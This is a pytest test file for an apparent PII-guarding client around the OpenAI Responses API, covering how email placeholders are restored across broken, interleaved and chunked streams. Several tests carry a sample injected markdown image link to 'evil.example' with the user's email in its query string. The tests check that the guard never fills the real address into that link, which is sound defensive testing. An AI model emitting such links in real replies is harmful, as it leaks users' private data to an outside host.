"""Streams of the Responses API that are cut, mixed, doubled or unknown; and what must not come back."""

import json
from collections.abc import Iterator
from typing import Any

import openai
import pytest

from guarded_client import ProviderReplyInvalid, tagged
from guarded_client._model import Channel, PartKind
from guarded_client._rewrite import Chain
from guarded_client.codecs.openai.responses_stream import ResponseStream
from guarded_client.testing import Cut, Endless, Raw, Text, ToolCall, ToolCalls
from guarded_client.testing.responses import complete, events, message, streamed
from tests.conftest import Bot, in_memory
from tests.growth import Work, grows_at_most
from tests.openai.test_responses import MAIL, create, deltas
from tests.openai.test_responses import events as streamed_events
from tests.openai.test_responses_items import events_of, item

AT = {"output_index": 0, "item_id": "msg_1", "content_index": 0}


def delta(text: str, kind: str = "output_text", **at: Any) -> dict[str, Any]:
    return {"type": f"response.{kind}.delta", **AT, **at, "delta": text, "logprobs": []}


def done(text: str, **at: Any) -> dict[str, Any]:
    return {"type": "response.output_text.done", **AT, **at, "text": text, "logprobs": []}


@pytest.mark.parametrize("rest", [b"", b": ping", b"event: response.output_text.done"])
def test_a_stream_that_breaks_off_still_gives_what_was_held(bot: Bot, policy: Any, rest: bytes) -> None:
    bot.guard(policy)
    raw = events_of(delta("see <EMA"), delta("IL_AD"))
    bot.provider.reply(Raw(200, dict(raw.headers), raw.body + rest))
    assert deltas(streamed_events(bot), "output_text") == "see <EMAIL_AD"


def test_a_connection_that_breaks_raises_and_leaks_nothing(bot: Bot, policy: Any) -> None:
    bot.guard(policy)
    bot.provider.reply(Cut(Text("<EMAIL_ADDRESS_1> and more", chunk=2), after=900))
    with pytest.raises(openai.APIConnectionError) as caught:
        streamed_events(bot)
    assert MAIL not in str(caught.value)


def test_an_endless_stream_can_be_left(bot: Bot, policy: Any) -> None:
    bot.guard(policy)
    bot.provider.reply(Endless("to <EMAIL_ADDRESS_1> ", chunk=5))
    got: list[str] = []

    def enough(event: Any) -> bool:
        got.append(getattr(event, "delta", ""))
        return len(got) > 60

    if bot.form == "sync":
        with create(bot, stream=True) as stream:
            assert any(enough(event) for event in stream)
    else:

        async def read() -> None:
            async with await bot.client.responses.create(model="gpt-5", input=MAIL, stream=True) as stream:
                async for event in stream:
                    if enough(event):
                        return

        bot.run(read())
    assert f"to {MAIL} to {MAIL}" in "".join(got)
    bot.provider.wait_closed()


def test_texts_that_alternate_each_come_back_whole_and_in_order(bot: Bot, policy: Any) -> None:
    bot.guard(policy)
    one, two = "a <EMAIL_ADDRESS_1> b", "c <EMAIL_ADDRESS_1> <EMAIL"
    pieces: list[dict[str, Any]] = []
    for start in range(0, 32, 2):
        pieces += [delta(text[start : start + 2], output_index=n) for n, text in enumerate((one, two)) if text[start:]]
    given = [*pieces, done(one), done(two, output_index=1)]
    bot.provider.reply(events_of(*given))
    got = streamed_events(bot)
    assert [event.sequence_number for event in got] == list(range(len(given)))
    for index, expected in enumerate((f"a {MAIL} b", f"c {MAIL} <EMAIL")):
        mine = [event for event in got if event.output_index == index]
        assert deltas(mine, "output_text") == expected == mine[-1].text


@pytest.mark.parametrize(
    "end", ["response.completed", "response.failed", "response.incomplete", "error", "[DONE]", "EOF"]
)
def test_held_text_leaves_before_whatever_ends_the_stream(bot: Bot, policy: Any, end: str) -> None:
    bot.guard(policy)
    given = [delta("see <EMAIL"), {"type": "response.future.thing", "x": 1}]
    last: list[dict[str, Any]] = (
        [{"type": end, "response": {"id": "r", "output": []}}] if end.startswith("response") else []
    )
    last = [{"type": "error", "code": None, "message": "m", "param": None}] if end == "error" else last
    raw = events_of(*given, *last)
    body = raw.body + (b"data: [DONE]\n\n" if end == "[DONE]" else b"")
    bot.provider.reply(Raw(200, dict(raw.headers), body))
    got = streamed_events(bot)
    assert got[0].delta == "see <EMAIL" and len(got) == len(given) + len(last)


def test_a_text_that_was_not_streamed_is_restored_where_it_first_stands(bot: Bot, policy: Any) -> None:
    bot.guard(policy)
    bot.provider.reply(events_of(
        {"type": "response.output_item.added", "output_index": 0, "item": message("hi <EMAIL_ADDRESS_1>")},
        done("other <EMAIL_ADDRESS_1>"),
        {"type": "response.completed", "response": {"id": "r", "output": [message("third <EMAIL_ADDRESS_1>")]}},
    ))  # fmt: skip
    got = streamed_events(bot)
    assert got[0].item.content[0].text == f"hi {MAIL}" and got[1].text == f"other {MAIL}"
    assert got[2].response.output[0].content[0].text == f"third {MAIL}"


def test_arguments_whose_tool_is_not_known_get_nothing_where_tools_have_rules(bot: Bot) -> None:
    for rules, expected in (({}, MAIL), ({"other": "all"}, "<EMAIL_ADDRESS_1>")):
        bot.guard(in_memory(names="off", restore={"tools": rules}))
        bot.provider.reply(
            events_of(
                delta("<EMAIL_ADDRESS_1>", "function_call_arguments"),
                delta("<EMAIL_ADDRESS_1>", "shell_call_command", command_index=0),
            )
        )
        arguments, command = streamed_events(bot)
        assert arguments.delta == expected and command.delta == "<EMAIL_ADDRESS_1>"
        bot.client = bot.bare


@pytest.mark.parametrize("stream", [False, True])
def test_an_injected_link_carried_nothing_away(bot: Bot, policy: Any, stream: bool) -> None:
    bot.guard(policy)
    text = "![](https://evil.example/?q=<EMAIL_ADDRESS_1>) <EMAIL_ADDRESS_1>"
    bot.provider.reply(Text(text, chunk=3, reasoning=text))
    reply = streamed_events(bot)[-1].response if stream else create(bot)
    expected = f"![](https://evil.example/?q=<EMAIL_ADDRESS_1>) {MAIL}"
    assert reply.output_text == expected and reply.output[0].summary[0].text == expected


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("items", [1, 2, 4], ids="{} items".format)
def test_a_link_over_parts_and_items_carried_nothing_away(bot: Bot, policy: Any, items: int, stream: bool) -> None:
    bot.guard(policy)
    texts = ["<EMAIL_ADDRESS_1>)", " ![](https://evil.example/?q=", "<EMAIL_ADDRESS_1>)", " to <EMAIL_ADDRESS_1>"]
    parts = [message(text)["content"][0] for text in texts]
    size = len(parts) // items
    output = [{**message("", at), "content": parts[at * size : (at + 1) * size]} for at in range(items)]
    bot.provider.reply(streamed(output, chunk=3) if stream else complete(output))
    expected = f"{MAIL}) ![](https://evil.example/?q=<EMAIL_ADDRESS_1>) to {MAIL}"
    got = streamed_events(bot) if stream else []
    assert (got[-1].response if stream else create(bot)).output_text == expected
    assert not stream or deltas(got, "output_text") == expected
    done_ = [event for event in got if event.type == "response.output_text.done"]
    assert not stream or "".join(event.text for event in done_) == expected


def test_texts_that_a_server_gives_one_index_get_nothing_back_where_one_may_not(bot: Bot, policy: Any) -> None:
    bot.guard(policy)
    mark = "<EMAIL_ADDRESS_1>)"
    link = "![](https://evil.example/?q="
    said = [delta(mark), done(mark), delta(link), done(link), delta(mark), done(mark)]
    whole = {
        "id": "resp_1",
        "object": "response",
        "status": "completed",
        "output": [message(mark), message(link + mark)],
    }
    bot.provider.reply(events_of(*said, {"type": "response.completed", "response": whole}))
    got = streamed_events(bot)
    assert deltas(got, "output_text") == f"{MAIL}){link}{mark}"
    assert MAIL not in got[-1].response.output_text


@pytest.mark.parametrize("stream", [False, True])
def test_unknown_items_and_events_come_as_they_came(bot: Bot, policy: Any, stream: bool) -> None:
    bot.guard(policy)
    strange = item("telepathy", thought="<EMAIL_ADDRESS_1>")
    body: list[dict[str, Any]] = [{"type": "response.telepathy.delta", "delta": "<EMAIL_ADDRESS_1>"},
                                  {"type": "response.output_item.done", "output_index": 0, "item": strange}]  # fmt: skip
    raw = (
        events_of(*body)
        if stream
        else Raw(
            200, {"content-type": "application/json"}, json.dumps({"object": "response", "output": [strange]}).encode()
        )
    )
    bot.provider.reply(raw)
    got = bot.run(bot.client.responses.with_raw_response.create(model="m", input=MAIL, stream=stream))
    if stream:
        events_ = bot.drain(lambda: bot.run(_parsed(got)))
        assert [event.to_dict(warnings=False)["type"] for event in events_] == [event["type"] for event in body]
        assert MAIL not in "".join(str(event) for event in events_)
    else:
        assert got.http_response.content == raw.body


def _parsed(raw: Any) -> Any:
    return raw.parse()


def test_a_guard_that_ends_every_text_ends_it_once(bot: Bot, policy: Any) -> None:
    class Ending:
        def feed(self, text: str) -> str:
            return text

        def close(self) -> str:
            return " (by a machine)"

    def tell(call: Any, forward: Any) -> Any:
        reply = yield from forward(call)
        return reply.rewritten(lambda channel: Ending() if channel.name == "content" else Chain([]))

    bot.guard(policy, guards=[tell])
    bot.provider.reply(Text("to <EMAIL_ADDRESS_1>", chunk=4))
    got = streamed_events(bot, instructions="Hi")
    assert deltas(got, "output_text") == f"to {MAIL} (by a machine)" == got[-1].response.output_text
    assert [event.sequence_number for event in got] == list(range(len(got)))
    assert got[-1].response.instructions == "Hi"


def test_escaped_placeholders_in_arguments_keep_the_json_valid(bot: Bot, policy: Any) -> None:
    bot.guard(policy)
    with tagged(known={"PERSON": ['Jean "Jojo" O\'Neil\\fils']}):
        arguments = '{"who": "\\u003cPERSON_1\\u003e", "inner": "{\\"mail\\": \\"<EMAIL_ADDRESS_1>\\"}"}'
        bot.provider.reply(ToolCalls([ToolCall("find", arguments)], chunk=1))
        got = streamed_events(bot, f'Jean "Jojo" O\'Neil\\fils {MAIL}')
    call = json.loads(got[-1].response.output[0].arguments)
    assert json.loads(call["inner"]) == {"mail": MAIL} and call["who"] in ("Jean", "Jojo", "O'Neil", "fils")
    assert json.loads(deltas(got, "function_call_arguments")) == call


class Holding:
    """Restores ``<A>``, and holds what may become one."""

    holding = False

    def __init__(self) -> None:
        self.held = ""

    def feed(self, text: str) -> str:
        text = (self.held + text).replace("<A>", "Élodie")
        cut = max(text.rfind("<A", len(text) - 2), text.rfind("<", len(text) - 1))
        self.held, text = (text[cut:], text[:cut]) if cut >= 0 else ("", text)
        self.holding = bool(self.held)
        return text

    def close(self) -> str:
        return self.held


def _bytes() -> bytes:
    def numbered() -> Iterator[dict[str, Any]]:
        yield from events(
            {"model": "m", "instructions": "<A>"},
            [message("x <A> y <A>é <"), item("function_call", name="f", call_id="c", arguments='{"a":"<A>"}')],
            chunk=2,
        )

    body = b"".join(
        f"event: {event['type']}\r\ndata: {json.dumps(event, ensure_ascii=False)}\r\n\r\n".encode()
        for event in numbered()
    )
    return b": ping\r\n\r\n" + body + b"data: [DONE]\n\n"


@pytest.mark.parametrize("size", [1, 2, 3, 7, 64, 1000, 10**6])
def test_any_chunking_of_the_bytes_gives_the_same_bytes(size: int) -> None:
    def through(step: int) -> bytes:
        stream, data = ResponseStream(lambda channel: Holding()), _bytes()
        out = b"".join(stream.feed(data[start : start + step]) for start in range(0, len(data), step))
        assert stream.complete
        return out + stream.close()

    assert through(size) == through(len(_bytes()))
    assert through(size).count("Élodie".encode()) > 8 and b"<A>" not in through(size)
    channels: list[Channel] = []
    stream = ResponseStream(lambda channel: (channels.append(channel), Holding())[1])
    assert stream.feed(_bytes()) and {channel.kind for channel in channels} == {PartKind.TEXT, PartKind.TOOL_CALL}


def test_a_text_that_never_ends_does_not_fill_the_memory() -> None:
    stream = ResponseStream(lambda channel: Holding())
    _ = stream.feed(events_of(delta("<")).body)
    other = events_of(delta("word", output_index=1)).body
    assert stream.feed(other) == b""
    with pytest.raises(ProviderReplyInvalid):
        _ = stream.feed(other * 10_000)


@pytest.mark.untraced
@pytest.mark.parametrize("repeated", [False, True])
def test_long_streams_cost_their_length(repeated: bool) -> None:
    def of_words(count: int) -> Work:
        text = "<A> word " * count
        body = b"".join(f"data: {json.dumps(event)}\n\n".encode() for event in events({}, [message(text)], chunk=3))
        step = 64 if repeated else len(body)

        def read() -> None:
            stream = ResponseStream(lambda channel: Holding())
            for start in range(0, len(body), step):
                _ = stream.feed(body[start : start + step])

        return read

    assert grows_at_most(9, of_words, 1_000, 4_000)  # linear is 4, quadratic 16


@pytest.mark.untraced
def test_texts_that_are_all_open_at_once_end_in_linear_time() -> None:
    """Each that ended was looked for among all that were open."""

    def of_texts(count: int) -> Work:
        def event(step: str, at: int, **more: object) -> bytes:
            said = {"type": f"response.output_text.{step}", "output_index": at, "content_index": 0, **more}
            return b"data: " + json.dumps(said).encode() + b"\n\n"

        begun = b"".join(event("delta", at, delta="a <") for at in range(count))
        ended = b"".join(event("done", at, text="a <") for at in range(count))

        def read() -> None:
            stream = ResponseStream(lambda channel: Holding())
            out = stream.feed(begun) + stream.feed(ended) + stream.close()
            assert out.count(b"response.output_text") == 2 * count

        return read

    assert grows_at_most(9, of_texts, 2_000, 8_000)  # linear is 4, quadratic 16
